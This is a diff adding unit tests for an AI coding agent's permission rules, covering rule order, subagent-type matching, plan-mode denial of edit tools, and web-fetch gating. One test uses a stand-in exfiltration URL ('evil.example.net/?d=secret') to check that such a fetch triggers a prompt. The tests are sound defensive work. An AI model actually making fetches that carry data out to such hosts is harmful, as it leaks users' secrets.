@@ -53,6 +53,12 @@ describe("order: deny > ask > allow (contracts §3.2)", () => {
     expect(e.isToolHidden("mcp__danger__drop")).toBe(true);
     expect(e.isToolHidden("Read")).toBe(false);
   });
+  test("Agent(<type>) matches the type in any case, as the Agent tool finds it (explain agrees with a run)", () => {
+    const e = ev({ deny: ["Agent(Explore)"], allow: ["Task(Review)"] });
+    expect(e.decide(q("Agent", { subagent_type: "explore", prompt: "p" }, { readOnly: true })).behavior).toBe("deny");
+    expect(e.decide(q("Task", { subagent_type: "EXPLORE", prompt: "p" }, { readOnly: true })).behavior).toBe("deny");
+    expect(e.decide(q("Agent", { subagent_type: "review", prompt: "p" })).rule?.text).toBe("Task(Review)");
+  });
   test("bad rules are skipped with a warning naming file and index", () => {
     const e = ev({ allow: ["Bash(ls", "Read"] });
     expect(e.warnings.length).toBe(1);
@@ -65,6 +71,18 @@ describe("modes (contracts §3.3)", () => {
   const write = q("Write", { file_path: "src/new.ts", content: "x" });
   const cases: [PermissionMode, string][] = [["default", "ask"], ["acceptEdits", "allow"], ["plan", "deny"], ["bypassPermissions", "allow"], ["dontAsk", "deny"], ["auto", "ask"]];
   for (const [mode, want] of cases) test(`${mode}: Write in cwd → ${want}`, () => expect(ev({}, { mode }).decide(write).behavior).toBe(want as "ask"));
+  test("WebFetch and WebSearch need a rule: a fetch can carry data out, so read-only is not enough", () => {
+    const e = ev({ allow: ["WebFetch(domain:docs.example.com)"] });
+    expect(e.decide(q("WebFetch", { url: "https://docs.example.com/a", prompt: "p" }, { readOnly: true })).behavior).toBe("allow");
+    expect(e.decide(q("WebFetch", { url: "https://evil.example.net/?d=secret", prompt: "p" }, { readOnly: true })).behavior).toBe("ask");
+    expect(e.decide(q("WebSearch", { query: "x" }, { readOnly: true })).behavior).toBe("ask");
+    expect(ev({ allow: ["WebSearch"] }).decide(q("WebSearch", { query: "x" }, { readOnly: true })).behavior).toBe("allow");
+  });
+  test("plan: no allow rule, auto-memory dir or hook allow lets an editing tool through", () => {
+    const e = ev({ allow: ["Edit", "Write", "Edit(/src/**)"] }, { mode: "plan", autoAllowWriteDirs: [join(t.cwd, "src")] });
+    for (const tool of ["Edit", "Write", "MultiEdit", "NotebookEdit"])
+      expect(e.decide(q(tool, { file_path: "src/a.ts", notebook_path: "src/a.ts" }, { hookDecision: "allow" })).behavior).toBe("deny");
+  });
   test("reads and read-only Bash are allowed in every mode", () => {
     for (const mode of ["default", "acceptEdits", "plan", "dontAsk", "auto"] as PermissionMode[]) {
       expect(ev({}, { mode }).decide(q("Read", { file_path: "src/a.ts" }, { readOnly: true })).behavior).toBe("allow");
